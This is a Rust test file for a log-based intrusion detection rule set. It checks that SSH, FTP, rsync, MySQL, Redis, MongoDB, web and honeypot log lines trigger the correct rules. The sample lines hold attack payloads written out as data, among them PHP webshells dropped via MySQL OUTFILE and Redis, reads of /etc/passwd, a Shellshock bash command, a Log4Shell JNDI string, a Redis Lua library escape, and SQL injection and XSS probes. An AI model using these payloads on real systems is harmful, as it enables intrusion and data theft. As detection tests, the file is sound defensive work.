//! Per-rule tests: real lines (from the corpus where it has them) in every format each service
//! writes, plus loader validation.

use super::*;

fn builtin() -> RuleSet {
    RuleSet::builtin().unwrap()
}

/// The (rule id, address) pairs a line produces.
fn hits(set: &RuleSet, line: &str) -> Vec<(String, String)> {
    set.evaluate(line)
        .into_iter()
        .map(|m| {
            let addr = match m.addr {
                Extracted::Addr(a) => a.to_string(),
                Extracted::Unparseable => "?".to_owned(),
                Extracted::Session(id) => format!("session:{id}"),
            };
            (set.rules()[m.rule].config.id.clone(), addr)
        })
        .collect()
}

#[track_caller]
fn assert_hits(line: &str, want: &[(&str, &str)]) {
    let got = hits(&builtin(), line);
    let want: Vec<(String, String)> = want
        .iter()
        .map(|(r, a)| ((*r).to_owned(), (*a).to_owned()))
        .collect();
    assert_eq!(got, want, "line: {line}");
}

#[test]
fn builtin_packs_load() {
    let set = builtin();
    for service in [
        "sshd",
        "vsftpd",
        "rsync",
        "mysql",
        "redis",
        "mongodb",
        "web",
        "mirage-flow",
        "mirage-sandbox",
    ] {
        assert!(
            set.rules().iter().any(|r| r.config.service == service),
            "{service}"
        );
    }
}

#[test]
fn sshd_failed_password_all_forms() {
    for line in [
        "2026-11-28T01:59:51.398504+00:00 vm sshd[23342]: Failed password for invalid user admin from fd77::66 port 37408 ssh2",
        "Nov 28 01:59:51 vm sshd[23342]: Failed password for invalid user admin from fd77::66 port 37408 ssh2",
        "Failed password for invalid user admin from fd77::66 port 37408 ssh2",
    ] {
        assert_hits(line, &[("sshd-failed-password", "fd77::66")]);
    }
    assert_hits(
        "2026-11-28T01:59:51Z vm sshd-session[1]: Failed publickey for root from fd77::66 port 37408 ssh2: RSA SHA256:abc",
        &[("sshd-failed-publickey", "fd77::66")],
    );
}

#[test]
fn sshd_forged_user_name_cannot_move_the_address() {
    assert_hits(
        "Failed password for invalid user x from 10.77.0.20 port 22 ssh2 from 10.77.0.67 port 4242 ssh2",
        &[("sshd-failed-password", "10.77.0.67")],
    );
    // The address must be the last ` from X port N`; a trailing forged part breaks the match.
    assert_hits(
        "Invalid user a from 10.77.0.67 port 1 from 10.77.0.20 port 2",
        &[("sshd-invalid-user", "10.77.0.20")],
    );
}

#[test]
fn sshd_other_rules() {
    assert_hits(
        "2026-11-28T01:59:49.213964+00:00 vm sshd[23342]: Invalid user admin from fd77::66 port 37408",
        &[("sshd-invalid-user", "fd77::66")],
    );
    assert_hits(
        "2026-11-28T01:59:14.485451+00:00 vm sshd[22124]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.77.0.20  user=alice",
        &[("sshd-pam-auth-failure", "10.77.0.20")],
    );
    assert_hits(
        "Nov 28 01:59:14 vm sshd[1]: error: maximum authentication attempts exceeded for root from 10.77.0.67 port 4 ssh2 [preauth]",
        &[("sshd-max-auth-tries", "10.77.0.67")],
    );
    assert_hits(
        "Disconnected from invalid user oracle fd77::66 port 37408 [preauth]",
        &[("sshd-preauth-disconnect", "fd77::66")],
    );
    assert_hits(
        "2026-11-28T01:59:20.1+00:00 vm sshd[2]: Received disconnect from 10.77.0.67 port 5:11: Bye Bye [preauth]",
        &[("sshd-preauth-disconnect", "10.77.0.67")],
    );
    assert_hits(
        "2026-11-28T01:59:20.1+00:00 vm sshd[2]: banner exchange: Connection from 10.77.0.66 port 5: invalid format",
        &[("sshd-banner-probe", "10.77.0.66")],
    );
    // Accepted logins match the compromise rule; the scanner counts them only for sources
    // already flagged by `sshd-failed-password` (`requires`).
    assert_hits(
        "Accepted password for test from 10.77.0.67 port 36498 ssh2",
        &[("sshd-login-after-brute-force", "10.77.0.67")],
    );
    assert_hits(
        "2026-11-28T01:59:18.240176+00:00 vm sshd[22136]: Accepted publickey for bob from fd77::20 port 41054 ssh2: ED25519 SHA256:x",
        &[("sshd-login-after-brute-force", "fd77::20")],
    );
}

#[test]
fn vsftpd_all_forms() {
    for line in [
        "Sat Nov 28 01:59:21 2026 [pid 22246] [root] FAIL LOGIN: Client \"::ffff:10.77.0.67\"",
        "2026-11-28T02:01:19.758709+00:00 vm vsftpd[25110]: [root] FAIL LOGIN: Client \"::ffff:10.77.0.67\"",
        "Nov 28 02:01:19 vm vsftpd[25110]: [root] FAIL LOGIN: Client \"10.77.0.67\"",
    ] {
        assert_hits(line, &[("vsftpd-fail-login", "10.77.0.67")]);
    }
    assert_hits(
        "2026-11-28T01:59:19.855960+00:00 vm vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=alice rhost=::ffff:10.77.0.20  user=alice",
        &[("vsftpd-pam-auth-failure", "10.77.0.20")],
    );
    assert_hits(
        "Sat Nov 28 02:02:00 2026 [pid 1] [test] OK DOWNLOAD: Client \"::ffff:10.77.0.67\", \"/etc/passwd\", 1400 bytes, 900.00Kbyte/sec",
        &[
            ("vsftpd-sensitive-download", "10.77.0.67"),
            ("vsftpd-mass-download", "10.77.0.67"),
        ],
    );
    assert_hits(
        "Sat Nov 28 02:02:00 2026 1 ::ffff:10.77.0.67 1400 /etc/passwd b _ o r test ftp 0 * c",
        &[
            ("vsftpd-sensitive-download", "10.77.0.67"),
            ("vsftpd-mass-download", "10.77.0.67"),
        ],
    );
    assert_hits(
        "2026-11-28T02:02:00Z vm vsftpd[3]: [test] OK UPLOAD: Client \"fd77::66\", \"/home/test/bd.php\", 30 bytes, 1.00Kbyte/sec",
        &[("vsftpd-webshell-upload", "fd77::66")],
    );
    assert_hits(
        "Sat Nov 28 02:02:00 2026 1 ::ffff:10.77.0.67 30 /home/test/bd.php b _ i r test ftp 0 * c",
        &[("vsftpd-webshell-upload", "10.77.0.67")],
    );
    // Legitimate transfers match only the volume rule.
    assert_hits(
        "Sat Nov 28 01:59:22 2026 [pid 22296] [alice] OK UPLOAD: Client \"::ffff:10.77.0.20\", \"/home/alice/report.txt\", 17 bytes, 38.70Kbyte/sec",
        &[],
    );
    assert_hits(
        "2026-11-28T01:59:22.972112+00:00 vm vsftpd[22318]: [bob] OK LOGIN: Client \"fd77::20\"",
        &[("vsftpd-login-after-brute-force", "fd77::20")],
    );
    assert_hits(
        "Sat Nov 28 01:59:19 2026 [pid 22247] [alice] FTP command: Client \"::ffff:10.77.0.20\", \"PASS <password>\"",
        &[],
    );
}

#[test]
fn rsync_rules() {
    assert_hits(
        "2026/11/28 01:59:23 [22363] auth failed on module backup from UNKNOWN (10.77.0.66) for backup: password mismatch",
        &[("rsync-auth-failed", "10.77.0.66")],
    );
    assert_hits(
        "2026-11-28T01:59:23Z vm rsyncd[22363]: auth failed on module backup from UNKNOWN (10.77.0.66): missing secret for user \"x\"",
        &[("rsync-auth-failed", "10.77.0.66")],
    );
    assert_hits(
        "2026/11/28 01:59:23 [22342] module-list request from UNKNOWN (10.77.0.20)",
        &[("rsync-module-list", "10.77.0.20")],
    );
    assert_hits(
        "2026/11/28 01:59:23 [22352] send UNKNOWN [10.77.0.20] pub () README.txt 19",
        &[("rsync-mass-send", "10.77.0.20")],
    );
    assert_hits(
        "2026/11/28 01:59:23 [22373] recv UNKNOWN [10.77.0.20] backup (backup) legit-report.txt 17",
        &[("rsync-mass-recv", "10.77.0.20")],
    );
    assert_hits(
        "2026/11/28 01:59:40 [23030] connect from UNKNOWN (10.77.0.66)",
        &[("rsync-connection-flood", "10.77.0.66")],
    );
    assert_hits(
        "2026/11/28 01:59:40 [23030] ERROR: module is read only",
        &[("rsync-readonly-upload", "session:23030")],
    );
    assert_hits(
        "2026-11-28T01:59:40.1+00:00 vm rsyncd[23030]: ERROR: module is read only",
        &[("rsync-readonly-upload", "session:23030")],
    );
    // A reverse name with a space cannot smuggle a second address.
    assert_hits(
        "2026/11/28 01:59:23 [1] auth failed on module backup from evil (10.77.0.20) (10.77.0.66) for x: password mismatch",
        &[],
    );
}

#[test]
fn mysql_rules() {
    for line in [
        "\t\t     4 Connect\tAccess denied for user 'app'@'10.77.0.67' (using password: YES)",
        "261128  2:02:35\t    12 Connect\tAccess denied for user 'root'@'10.77.0.67' (using password: NO)",
        "2026-11-28  2:00:20 4 [Warning] Access denied for user 'app'@'10.77.0.67' (using password: YES)",
        "2026-11-28T02:00:20.123456Z 8 [Note] [MY-010926] [Server] Access denied for user 'app'@'10.77.0.67' (using password: YES)",
        "\t\t     4 Connect\tAccess denied for user 'x'@'10.77.0.20'@'10.77.0.67' (using password: YES)",
    ] {
        assert_hits(line, &[("mysql-access-denied", "10.77.0.67")]);
    }
    assert_hits(
        "2026-11-28  2:00:15 3 [Warning] Aborted connection 3 to db: 'unconnected' user: 'unauthenticated' host: '10.77.0.66' (This connection closed normally without authentication)",
        &[("mysql-aborted-unauthenticated", "10.77.0.66")],
    );
    assert_hits(
        "261128  2:00:20\t     4 Connect\tapp@10.77.0.20 on shop using TCP/IP",
        &[("mysql-connection-flood", "10.77.0.20")],
    );
    assert_hits(
        "261128  1:58:02\t     3 Connect\troot@localhost on  using Socket",
        &[],
    );
    for stmt in [
        "SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/s.php'",
        "select load_file('/etc/passwd')",
        "SELECT name FROM products WHERE id=1 UNION ALL SELECT user()",
        "CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'",
        "SELECT user, authentication_string FROM mysql.user",
    ] {
        assert_hits(
            &format!("\t\t     5 Query\t{stmt}"),
            &[("mysql-suspicious-statement", "session:5")],
        );
    }
    for stmt in [
        "SELECT * FROM products",
        "INSERT INTO orders (product_id, qty) VALUES (1, 2)",
        "UPDATE products SET price=9.49 WHERE id=1",
        "GRANT SELECT,INSERT,UPDATE ON shop.* TO 'app'@'%'",
    ] {
        assert_hits(&format!("\t\t     5 Query\t{stmt}"), &[]);
    }
    // Host names (skip-name-resolve off) are not addresses: matched but not counted.
    assert_hits(
        "\t\t     4 Connect\tAccess denied for user 'app'@'db.example' (using password: YES)",
        &[("mysql-access-denied", "?")],
    );
}

#[test]
fn redis_rules() {
    assert_hits(
        "21593:S 28 Nov 2026 01:59:41.929 * REPLICAOF 10.77.0.66:21000 enabled (user request from 'id=40 addr=10.77.0.66:59720 laddr=10.77.0.10:6379 fd=11 name= age=0 idle=0 flags=N db=0 cmd=slaveof user=default redir=-1 resp=2')",
        &[("redis-replicaof", "10.77.0.66")],
    );
    assert_hits(
        "21593:M 28 Nov 2026 01:59:45.953 * MASTER MODE enabled (user request from 'id=42 addr=[fd77::66]:59722 laddr=10.77.0.10:6379 fd=9 name= cmd=replicaof')",
        &[("redis-replicaof", "fd77::66")],
    );
    assert_hits(
        "21593:M 28 Nov 2026 01:59:49.024 - Client closed connection id=46 addr=10.77.0.66:44950 laddr=10.77.0.10:6379 fd=9 name= age=0 idle=0 flags=N db=0 sub=0 psub=0 ssub=0 multi=-1 qbuf=0 qbuf-free=20474 argv-mem=0 multi-mem=0 rbs=16384 rbp=16384 obl=0 oll=0 omem=0 tot-mem=37632 events=r cmd=module|load user=default redir=-1 resp=2",
        &[("redis-dangerous-command", "10.77.0.66")],
    );
    assert_hits(
        "2026-11-28T02:02:44.100000+00:00 cache-1 redis[21593]: Client closed connection id=60 addr=10.77.0.67:58050 laddr=10.77.0.10:6379 fd=9 name= age=0 idle=0 flags=N db=0 cmd=flushall user=default redir=-1 resp=2",
        &[("redis-dangerous-command", "10.77.0.67")],
    );
    for cmd in ["set", "get", "config|get", "info", "ping", "mget", "del"] {
        assert_hits(
            &format!(
                "21593:M 28 Nov 2026 02:03:11.000 - Client closed connection id=70 addr=10.77.0.20:40000 laddr=10.77.0.10:6379 fd=9 name= age=0 cmd={cmd} user=default redir=-1 resp=2"
            ),
            &[],
        );
    }
    assert_hits(
        "id=57 addr=10.77.0.67:58052 laddr=10.77.0.10:6379 fd=9 name= age=0 idle=0 flags=N db=0 sub=0 psub=0 ssub=0 multi=-1 qbuf=28 qbuf-free=20446 argv-mem=12 multi-mem=0 rbs=16384 rbp=16384 obl=0 oll=0 omem=0 tot-mem=37660 events=r cmd=auth user=default redir=-1 resp=2",
        &[("redis-acl-auth-failure", "10.77.0.67")],
    );
    assert_hits(
        "14) \"id=57 addr=10.77.0.67:58052 laddr=10.77.0.10:6379 fd=9 name= cmd=auth user=default redir=-1 resp=2\"",
        &[("redis-acl-auth-failure", "10.77.0.67")],
    );
    assert_hits(
        "1795831189.042534 [0 10.77.0.66:44958] \"EVAL\" \"local io_l = package.loadlib(\\\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\\\", \\\"luaopen_io\\\"); return 1\" \"0\"",
        &[("redis-monitor-payload", "10.77.0.66")],
    );
    assert_hits(
        "1795831189.0 [0 10.77.0.66:44958] \"SET\" \"payload\" \"<?php system($_GET[\\\"cmd\\\"]); ?>\"",
        &[("redis-monitor-payload", "10.77.0.66")],
    );
    assert_hits(
        "1795831189.0 [0 10.77.0.66:44958] \"CONFIG\" \"SET\" \"dir\" \"/var/www/html\"",
        &[("redis-monitor-admin-command", "10.77.0.66")],
    );
    assert_hits(
        "1795831163.631456 [0 10.77.0.20:44474] \"AUTH\" \"(redacted)\"",
        &[("redis-monitor-auth-flood", "10.77.0.20")],
    );
    assert_hits(
        "1795831163.654534 [0 10.77.0.20:44480] \"SET\" \"session:alice:42\" \"{\\\"cart\\\":[1,3]}\" \"EX\" \"3600\"",
        &[],
    );
    assert_hits(
        "1795831163.6 [0 lua] \"CONFIG\" \"GET\" \"requirepass\"",
        &[("redis-monitor-admin-command", "?")],
    );
}

#[test]
fn mirage_event_rules() {
    assert_hits(
        r#"{"kind":"redirect","model":"preserve-source","proto":"tcp","attacker":"203.0.113.9:51234","orig_dst":"10.0.0.5:22","target":"10.99.0.2:22","nat":"203.0.113.9:51234","ts_ns":123}"#,
        &[("mirage-flow-touch", "203.0.113.9")],
    );
    assert_hits(
        r#"{"kind":"reflect","model":"full-nat","proto":"udp","attacker":"[2001:db8::9]:5353","orig_dst":"[2001:db8::5]:53","target":"[2001:db8::9]:5353","nat":"[2001:db8::5]:40000","ts_ns":1}"#,
        &[("mirage-flow-touch", "2001:db8::9")],
    );
    assert_hits(
        r#"{"service":"ssh","event":"login-failed","user":"root","password":""src":"10.0.0.1"","src":"198.51.100.4:40022"}"#,
        &[("mirage-sandbox-login", "198.51.100.4")],
    );
    assert_hits(
        r#"{"service":"ssh","event":"command","command":"cat /etc/passwd","src":"[fd77::66]:50210"}"#,
        &[("mirage-sandbox-activity", "fd77::66")],
    );
    assert_hits(
        r#"{"service":"redis","event":"connect","src":"10.77.0.66:6000"}"#,
        &[("mirage-sandbox-connect", "10.77.0.66")],
    );
    assert_hits(
        r#"{"service":"ssh","event":"close","src":"10.77.0.66:6000"}"#,
        &[],
    );
}

#[test]
fn mongodb_rules() {
    assert_hits(
        r#"{"t":{"$date":"2026-11-28T01:59:16.860+00:00"},"s":"I",  "c":"ACCESS",   "id":20249,   "ctx":"conn3","msg":"Authentication failed","attr":{"mechanism":"SCRAM-SHA-256","speculative":false,"principalName":"admin","authenticationDatabase":"admin","remote":"10.77.0.66:51234","extraInfo":{},"error":"AuthenticationFailed: SCRAM authentication failed, storedKey mismatch"}}"#,
        &[("mongodb-auth-failed", "10.77.0.66")],
    );
    assert_hits(
        r#"{"t":{"$date":"2026-11-28T01:59:16.860+00:00"},"s":"I",  "c":"ACCESS",   "id":5286307, "ctx":"conn7","msg":"Failed to authenticate","attr":{"client":"[fd77::66]:40112","isSpeculative":true,"isClusterMember":false,"mechanism":"SCRAM-SHA-256","user":"root","db":"admin","error":"AuthenticationFailed: SCRAM authentication failed, storedKey mismatch","result":18,"metrics":{"conversation_duration":{"micros":250,"summary":{}}},"extraInfo":{}}}"#,
        &[("mongodb-auth-failed", "fd77::66")],
    );
    assert_hits(
        r#"{"t":{"$date":"2026-11-28T01:59:16.860+00:00"},"s":"I",  "c":"NETWORK",  "id":22943,   "ctx":"listener","msg":"Connection accepted","attr":{"remote":"10.77.0.67:50210","uuid":"2b0b4c55-5c1e-4c8e-9a51-0f6bd8e9b2c1","connectionId":5,"connectionCount":1}}"#,
        &[("mongodb-connection-flood", "10.77.0.67")],
    );
    assert_eq!(
        builtin()
            .evaluate(r#"{"t":{"$date":"2026-11-28T01:59:16.860+00:00"},"s":"I",  "c":"NETWORK",  "id":22943,   "ctx":"listener","msg":"Connection accepted","attr":{"remote":"10.77.0.67:50210","uuid":"x","connectionId":5,"connectionCount":1}}"#)[0]
            .session
            .as_deref(),
        Some("5"),
    );
    assert_hits(
        r#"{"t":{"$date":"2026-11-28T01:59:17.000+00:00"},"s":"I",  "c":"ACCESS",   "id":20436,   "ctx":"conn5","msg":"Checking authorization failed","attr":{"error":{"code":13,"codeName":"Unauthorized","errmsg":"command listDatabases requires authentication"}}}"#,
        &[("mongodb-unauthorized-command", "session:5")],
    );
    // A client-chosen user name is JSON-escaped and cannot forge the `remote` field.
    assert_hits(
        r#"{"t":{"$date":"2026-11-28T01:59:16.860+00:00"},"s":"I",  "c":"ACCESS",   "id":20249,   "ctx":"conn3","msg":"Authentication failed","attr":{"principalName":"x\",\"remote\":\"10.77.0.20:1","remote":"10.77.0.66:51234"}}"#,
        &[("mongodb-auth-failed", "10.77.0.66")],
    );
    assert_hits(
        r#"{"t":{"$date":"2026-11-28T01:59:16.860+00:00"},"s":"I",  "c":"ACCESS",   "id":20250,   "ctx":"conn3","msg":"Authentication succeeded","attr":{"mechanism":"SCRAM-SHA-256","principalName":"app","remote":"10.77.0.20:5123"}}"#,
        &[],
    );
}

#[test]
fn web_rules() {
    const UA: &str = "\"Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0\"";
    assert_hits(
        "10.77.0.67 - - [28/Nov/2026:02:02:39 +0000] \"GET /search.html?q=shoes&id=1 HTTP/1.1\" 200 60 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
        &[("web-scanner-user-agent", "10.77.0.67")],
    );
    assert_hits(
        "10.77.0.66 - - [28/Nov/2026:01:59:36 +0000] \"GET /nmaplowercheck1795831176 HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\"",
        &[
            ("web-scanner-user-agent", "10.77.0.66"),
            ("web-404-burst", "10.77.0.66"),
        ],
    );
    assert_hits(
        &format!(
            "fd77::66 - - [28/Nov/2026:01:59:37 +0000] \"GET /../../../../etc/passwd HTTP/1.1\" 400 157 \"-\" {UA}"
        ),
        &[
            ("web-path-traversal", "fd77::66"),
            ("web-sensitive-file", "fd77::66"),
        ],
    );
    assert_hits(
        &format!(
            "10.77.0.67 - - [28/Nov/2026:02:03:00 +0000] \"GET /search.html?q=%2e%2e%2f HTTP/1.1\" 200 60 \"-\" {UA}"
        ),
        &[("web-path-traversal", "10.77.0.67")],
    );
    assert_hits(
        &format!(
            "10.77.0.67 - - [28/Nov/2026:02:03:00 +0000] \"GET /search.html?id=1%20UNION%20ALL%20SELECT%20NULL-- HTTP/1.1\" 200 60 \"-\" {UA}"
        ),
        &[("web-sql-injection", "10.77.0.67")],
    );
    assert_hits(
        &format!(
            "10.77.0.67 - - [28/Nov/2026:02:03:00 +0000] \"GET /search.html?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\" 200 60 \"-\" {UA}"
        ),
        &[("web-xss", "10.77.0.67")],
    );
    assert_hits(
        "10.77.0.67 - - [28/Nov/2026:02:03:00 +0000] \"GET / HTTP/1.1\" 200 60 \"-\" \"() { :; }; /bin/bash -c id\"",
        &[("web-shellshock", "10.77.0.67")],
    );
    assert_hits(
        &format!(
            "10.77.0.67 - - [28/Nov/2026:02:03:00 +0000] \"GET /?x=${{jndi:ldap://10.77.0.67/a}} HTTP/1.1\" 200 60 \"-\" {UA}"
        ),
        &[("web-log4shell", "10.77.0.67")],
    );
    assert_hits(
        &format!(
            "10.77.0.67 - - [28/Nov/2026:02:03:00 +0000] \"GET /.env HTTP/1.1\" 404 60 \"-\" {UA}"
        ),
        &[
            ("web-sensitive-file", "10.77.0.67"),
            ("web-404-burst", "10.77.0.67"),
        ],
    );
    // Apache escapes quotes inside fields as `\"`; the fields still line up.
    assert_hits(
        "10.77.0.67 - - [28/Nov/2026:02:03:00 +0000] \"GET /a\\\"b HTTP/1.1\" 404 1 \"-\" \"Mozilla/5.0 \\\"x\\\" Nikto/2.5.0\"",
        &[
            ("web-scanner-user-agent", "10.77.0.67"),
            ("web-404-burst", "10.77.0.67"),
        ],
    );
    // Legitimate browsing.
    assert_hits(
        &format!(
            "10.77.0.20 - - [28/Nov/2026:01:59:14 +0000] \"GET / HTTP/1.1\" 200 254 \"-\" {UA}"
        ),
        &[],
    );
    assert_hits(
        &format!(
            "10.77.0.20 - - [28/Nov/2026:01:59:14 +0000] \"GET /search.html?q=shoes&id=1 HTTP/1.1\" 200 254 \"http://shop.example.test/\" {UA}"
        ),
        &[],
    );
    // An attack string in the user agent does not count as a request-line attack.
    assert_hits(
        "10.77.0.20 - - [28/Nov/2026:01:59:14 +0000] \"GET / HTTP/1.1\" 200 254 \"-\" \"x ../../etc/passwd <script>\"",
        &[],
    );
}

fn load_err(text: &str) -> String {
    let mut set = RuleSet::default();
    let err = set.add_str("bad.toml", text).unwrap_err();
    let mut msg = err.to_string();
    let mut src = std::error::Error::source(&err);
    while let Some(s) = src {
        msg.push_str(": ");
        msg.push_str(&s.to_string());
        src = s.source();
    }
    msg
}

const GOOD: &str = r#"
[[rule]]
id = "x-fail"
service = "x"
description = "d"
patterns = ['FAIL (?P<addr>\S+)']
threshold = 1
window = 60
severity = "low"
action = "drop"
"#;

#[test]
fn validation_names_file_and_rule() {
    let mut set = RuleSet::default();
    set.add_str("good.toml", GOOD).unwrap();
    let e = load_err(&GOOD.replace("(?P<addr>\\S+)", "(\\S+)"));
    assert!(
        e.contains("bad.toml") && e.contains("x-fail") && e.contains("addr"),
        "{e}"
    );
    let e = load_err(&GOOD.replace("FAIL (", "FAIL (("));
    assert!(
        e.contains("bad.toml") && e.contains("x-fail") && e.contains("compile"),
        "{e}"
    );
    let e = load_err(&GOOD.replace("threshold = 1", "threshold = 0"));
    assert!(e.contains("threshold"), "{e}");
    let e = load_err(&GOOD.replace("window = 60", "window = 0"));
    assert!(e.contains("window"), "{e}");
    let e = load_err(&GOOD.replace("window = 60", "window = 99999999"));
    assert!(e.contains("window"), "{e}");
    let e = load_err(&GOOD.replace("action = \"drop\"", "action = \"drop\"\nipv6_prefix = 0"));
    assert!(e.contains("ipv6_prefix"), "{e}");
    let e = load_err(&GOOD.replace("action = \"drop\"", "action = \"drop\"\nthreshhold = 3"));
    assert!(e.contains("bad.toml") && e.contains("threshhold"), "{e}");
    let e = load_err(&GOOD.replace("\"low\"", "\"urgent\""));
    assert!(e.contains("urgent"), "{e}");
    let e = load_err(&GOOD.replace("patterns = ['FAIL (?P<addr>\\S+)']", "patterns = []"));
    assert!(e.contains("patterns"), "{e}");
    let e = load_err(&GOOD.replace(
        "action = \"drop\"",
        "action = \"drop\"\nrequires = \"nope\"",
    ));
    assert!(e.contains("nope") && e.contains("x-fail"), "{e}");
    let other = GOOD
        .replace("x-fail", "y-ok")
        .replace("service = \"x\"", "service = \"y\"")
        .replace(
            "action = \"drop\"",
            "action = \"drop\"\nrequires = \"x-fail\"",
        );
    let e = load_err(&format!("{GOOD}{other}"));
    assert!(e.contains("another service"), "{e}");
    let e = load_err(&format!("{GOOD}{GOOD}"));
    assert!(e.contains("duplicate"), "{e}");
    // Ids must be unique across files too.
    let err = set.add_str("again.toml", GOOD).unwrap_err();
    assert!(err.to_string().contains("again.toml"), "{err}");
}

#[test]
fn evaluate_never_panics_on_hostile_input() {
    // Deterministic xorshift stream: random bytes, and random splices of real line prefixes
    // with random tails, through every built-in rule and the address parser.
    let set = builtin();
    let seeds = [
        "2026-11-28T01:59:51.398504+00:00 vm sshd[1]: Failed password for ",
        "Sat Nov 28 01:59:21 2026 [pid 1] [",
        "2026/11/28 01:59:23 [1] auth failed on module backup from ",
        "\t\t     4 Connect\tAccess denied for user '",
        "21593:S 28 Nov 2026 01:59:41.929 * REPLICAOF x enabled (user request from 'id=1 addr=",
        "1795831163.6 [0 ",
        "{\"t\":{\"$date\":\"",
        "10.77.0.67 - - [28/Nov/2026:02:02:39 +0000] \"GET /",
    ];
    let alphabet = b" \t\"'()[]{}:.%/\\-=0123456789abcdefABCDEFxyz\r\xff\xfe";
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let ts = crate::timestamp::Timestamps::new().unwrap();
    for i in 0..3000 {
        let len = usize::try_from(next() % 300).unwrap();
        let mut bytes: Vec<u8> = seeds[i % seeds.len()].as_bytes().to_vec();
        if i % 3 == 0 {
            bytes.clear();
        }
        for _ in 0..len {
            let r = usize::try_from(next()).unwrap();
            bytes.push(if i % 2 == 0 {
                alphabet[r % alphabet.len()]
            } else {
                u8::try_from(r % 256).unwrap()
            });
        }
        let line = String::from_utf8_lossy(&bytes);
        let _ = set.evaluate(&line);
        let _ = ts.extract(&line);
        let _ = crate::addr::parse_addr(&line);
    }
}

#[test]
fn docs_list_every_shipped_rule() {
    let docs = include_str!("../../../docs/server-rules.md");
    for rule in builtin().rules() {
        let c = &rule.config;
        let row = format!("| `{}` | {} / {} s", c.id, c.threshold, c.window);
        assert!(
            docs.contains(&row),
            "docs/server-rules.md lacks or misstates {}",
            c.id
        );
    }
}
